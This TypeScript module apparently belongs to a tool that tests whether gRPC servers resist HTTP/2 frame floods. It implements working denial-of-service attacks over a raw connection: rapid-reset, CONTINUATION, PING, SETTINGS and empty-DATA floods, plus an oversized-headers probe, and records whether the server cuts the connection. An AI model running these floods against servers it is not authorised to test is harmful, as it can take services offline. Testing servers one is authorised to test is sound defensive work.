/** Frames without number on one connection, each of which costs the server something. */
import { setTimeout as pause } from 'node:timers/promises';
import {
  data,
  field,
  FLAG,
  frame,
  headerBlock,
  headers,
  ping,
  reset,
  settings,
  TYPE,
} from '../wire/frames.js';
import { RawConnection } from '../wire/raw-connection.js';
import { finding, GRPC_FACES, streamPath, type Attack, type Face } from './attack.js';

/** Between two bursts: paced, for it is the server's defence that is tried, not two cores. */
const BURST_EVERY_MS = 5;
const BURST = 20;
/** Keepalive's own 15 s, after which a session that Node has given up is gone. */
const CUT_MS_MAX = 18_000;
const FRAMES_MAX = 20_000;
const RST_ENHANCE_YOUR_CALM = 11;
const HEADER_BYTES = 12_000;
const HEADERS = 3;

interface Flood {
  readonly name: string;
  /** Before it: a stream that it may speak of. */
  readonly opensStream: boolean;
  readonly frameOf: (number: number, path: string) => Buffer;
  /** Null: Node ends the session without words of ours. */
  readonly told: string | null;
}

const NO_HEADERS_YET = 0;

const FLOODS: readonly Flood[] = [
  {
    name: 'rapid-reset',
    opensStream: false,
    frameOf: (number, path) =>
      Buffer.concat([headers(1 + 2 * number, path), reset(1 + 2 * number)]),
    told: 'too many calls were reset',
  },
  {
    name: 'continuation-flood',
    opensStream: false,
    frameOf: (number, path) =>
      number === NO_HEADERS_YET
        ? frame(TYPE.headers, FLAG.none, 1, headerBlock(path))
        : frame(TYPE.continuation, FLAG.none, 1, field(`x-${number}`, 'y'.repeat(1_000))),
    told: null,
  },
  { name: 'ping-flood', opensStream: true, frameOf: ping, told: 'too_many_pings' },
  { name: 'settings-flood', opensStream: true, frameOf: settings, told: 'too_many_pings' },
  {
    name: 'empty-data-flood',
    opensStream: true,
    frameOf: () => data(1, Buffer.alloc(0)),
    told: null,
  },
];

const floods = FLOODS.map((flood): Attack => ({
  name: flood.name,
  against: GRPC_FACES,
  play: async (target, face) => {
    const one = new RawConnection(target).greet();
    const sent = await pour(one, flood, face);
    const closed = pause(CUT_MS_MAX, false, { ref: false });
    const isClosed = await Promise.race([one.closed.then(() => true), closed]);
    one.reset();
    const { farewell, error } = one;
    const told =
      farewell === null ? (error ?? '') : `GOAWAY ${farewell.code} ${farewell.text}`.trim();
    return finding(`${sent} frames sent until it knew`, told, {
      'the connection stays': !isClosed,
      'it was not told why':
        flood.told !== null && !(farewell?.text.startsWith(flood.told) ?? error !== null),
    });
  },
}));

/** Frames until the other side ends it. */
async function pour(one: RawConnection, flood: Flood, face: Face): Promise<number> {
  const path = streamPath(face);
  if (flood.opensStream) one.send(headers(1, path));
  let sent = 0;
  while (sent < FRAMES_MAX && !one.isClosed && one.farewell === null) {
    const burst: Buffer[] = [];
    for (let number = sent; number < sent + BURST; number += 1)
      burst.push(flood.frameOf(number, path));
    sent += BURST;
    one.send(...burst);
    await one.drained();
    await pause(BURST_EVERY_MS);
  }
  return sent;
}

const longHeaders: Attack = {
  name: 'long-headers',
  against: GRPC_FACES,
  async play(target, face) {
    const one = new RawConnection(target).greet();
    // Once the server's limit is agreed on.
    while (one.bytesRead === 0 && !one.isClosed) await pause(BURST_EVERY_MS);
    await pause(50);
    const fields = Array.from({ length: HEADERS }, (_, at) =>
      field(`x-${at}`, 'y'.repeat(HEADER_BYTES)),
    );
    one.send(frame(TYPE.headers, FLAG.none, 1, headerBlock(streamPath(face))));
    fields.forEach((bytes, at) => {
      const flags = at === HEADERS - 1 ? FLAG.endHeaders : FLAG.none;
      one.send(frame(TYPE.continuation, flags, 1, bytes));
    });
    await pause(500);
    const code = one.frames.find(({ type }) => type === TYPE.rstStream)?.payload.readUInt32BE(0);
    one.reset();
    return finding(`${HEADERS * HEADER_BYTES} bytes of headers`, `RST_STREAM ${code ?? 'none'}`, {
      'the headers were taken': code !== RST_ENHANCE_YOUR_CALM,
    });
  },
};

export const FRAME_FLOODS: readonly Attack[] = [...floods, longHeaders];
